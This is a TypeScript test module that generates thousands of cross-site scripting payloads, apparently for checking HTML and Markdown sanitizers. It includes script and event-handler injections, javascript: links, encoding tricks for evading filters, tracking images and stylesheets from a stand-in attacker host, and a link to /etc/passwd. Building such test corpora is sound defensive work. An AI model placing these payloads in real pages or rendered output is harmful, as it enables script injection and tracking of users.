/**
 * Texts that try to become markup or a script.
 *
 * @module
 */

/** What runs where it can: it opens a dialog and sets a mark. */
const RUN = "alert(1)";

const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<form action="javascript:${RUN}"><input type=submit autofocus onfocus=${RUN}></form>`,
  `<details open ontoggle=${RUN}>`,
  `<style>@import "https://evil.example/x.css"; * { background: url(https://evil.example/y) }</style>`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="https://evil.example/">`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<video src=x onerror=${RUN}><source onerror=${RUN}></video>`,
  `<body onload=${RUN}>`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml version="1.0"?><script>${RUN}</script>`,
  `<x contenteditable onblur=${RUN} tabindex=1 onfocus=${RUN} autofocus>`,
  `<portal src="https://evil.example"></portal>`,
];

const BREAKOUTS = [
  "",
  `"`,
  `'`,
  `">`,
  `'>`,
  "`",
  "-->",
  "]]>",
  "</title>",
  "</script>",
  "</style>",
  "</textarea>",
  "</details>",
  "</article></main>",
  "\0",
  "\u2028",
  "&lt;",
  "&#60;",
  "\\",
  "<",
];

const MARKDOWN = [
  `[x](javascript:${RUN})`,
  `[x](JaVaScRiPt:${RUN})`,
  `[x](java\nscript:${RUN})`,
  `[x](java&#10;script:${RUN})`,
  `[x](&#106;avascript:${RUN})`,
  `[x](javascript&colon;${RUN})`,
  `[x](\u0001javascript:${RUN})`,
  `[x](data:text/html,<script>${RUN}</script>)`,
  `[x](vbscript:${RUN})`,
  `[x](file:///etc/passwd)`,
  `[x](https://ok.example" onmouseover="${RUN})`,
  `[x](https://ok.example 'a" onmouseover=${RUN} b="')`,
  `![x](javascript:${RUN})`,
  `![x](https://evil.example/track.png)`,
  `![x" onerror="${RUN}](https://evil.example/x.png)`,
  `![x](//evil.example/x.png)`,
  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
  `[![x](https://evil.example/a.png)](javascript:${RUN})`,
  `<javascript:${RUN}>`,
  `<https://ok.example/"onmouseover="${RUN}>`,
  `[a]: javascript:${RUN}\n\n[a]`,
  "```<script>alert(1)</script>\nx\n```",
  '```js" onmouseover="alert(1)\nx\n```',
  "`</code><script>alert(1)</script>`",
  `$\\href{javascript:${RUN}}{x}$`,
  `\\(\\includegraphics{https://evil.example/x.png}\\)`,
  `\\[\\html{<script>${RUN}</script>}\\]`,
  `$\\text{<img src=x onerror=${RUN}>}$`,
  `\\(\\style{background:url(https://evil.example)}{x}\\)`,
  `\\(\\class{x" onmouseover="${RUN}}{x}\\)`,
  `\\(\\unicode{x3c}script\\unicode{x3e}\\)`,
  `| <script>${RUN}</script> | b" onclick="${RUN} |\n|---|---|\n| <img src=x onerror=${RUN}> | 1 |`,
  `# <script>${RUN}</script>`,
  `> <iframe src="javascript:${RUN}">`,
  "\ua95f0\ua95f<script>alert(1)</script>\ua95f",
  "\ua95fx\ua95f\ua95f1\ua95f\ua95f999\ua95f",
  `sandbox:/mnt/data/x" onerror="${RUN}`,
  `https://ok.example/"><script>${RUN}</script>`,
  `https://ok.example/\u202e<script>`,
];

/** Every one of them, in every dress: some thousands. */
export const PAYLOADS: readonly string[] = [
  ...ELEMENTS.flatMap((element) => BREAKOUTS.flatMap((breakout) => dressed(`${breakout}${element}`))),
  ...MARKDOWN.flatMap((text) => ["", '"', "\n\n", "- ", "<b>"].map((before) => `${before}${text}`)),
];

function dressed(text: string): string[] {
  return [
    text,
    text.toUpperCase().replaceAll("ALERT", "alert"),
    text.replaceAll("<", "<\u0000"),
    text.replaceAll("<", "\ud800<"),
    text.replaceAll(" ", "/"),
    text.replaceAll("=", "\t=\n"),
    `\`${text}\``,
    `**${text}**`,
    `[${text}](${text})`,
    `$${text}$`,
  ];
}
